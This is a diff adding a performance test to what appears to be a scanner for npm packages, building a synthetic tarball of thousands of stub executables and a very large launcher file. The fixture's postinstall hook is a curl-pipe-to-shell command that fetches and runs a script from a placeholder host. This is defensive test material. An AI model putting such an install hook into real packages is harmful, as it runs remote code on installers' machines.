@@ -211,6 +211,16 @@ def test_thousands_of_imported_names_cost_no_minutes(engine: Engine) -> None:
     assert_analysed(engine.analyze(archive))
 
 
+@QUADRATIC_GUARD
+def test_thousands_of_executables_beside_a_large_launcher_cost_no_minutes(engine: Engine) -> None:
+    """Each executable's name was looked for in every install- and import-time file."""
+    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
+    files: dict[str, str | bytes] = {f"bin/tool{i}": elf for i in range(5_000)}
+    files["index.js"] = "exec('bin/tool1');\n" + " word" * 2_000_000
+    archive = npm_tarball(files, scripts={"postinstall": "curl -s https://x.example.net/i.sh | sh"})
+    assert_analysed(engine.analyze(archive))
+
+
 @pytest.mark.parametrize(
     "wire",
     [
